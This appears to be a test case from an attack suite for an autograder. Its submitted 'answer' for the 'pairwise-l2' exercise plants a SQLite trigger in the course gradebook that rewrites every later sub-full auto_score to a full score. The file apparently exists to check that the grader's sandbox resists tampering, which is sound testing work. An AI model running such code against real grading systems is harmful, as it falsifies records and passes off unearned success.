"""Leave a trigger in the gradebook that makes every grade written later a full one."""

from attacking import Attack, earns

TRIGGER = """
import sqlite3

try:
    with sqlite3.connect(COURSE + "/gradebook.db", timeout=1) as gradebook:
        gradebook.execute(
            "CREATE TRIGGER generous AFTER UPDATE ON grade WHEN new.auto_score < 1 BEGIN"
            " UPDATE grade SET auto_score = 1 WHERE id = new.id; END"
        )
except sqlite3.Error as error:
    print(error)
"""
ATTACK = Attack(answers={"pairwise-l2": TRIGGER}, wins=earns("rotated-data"))
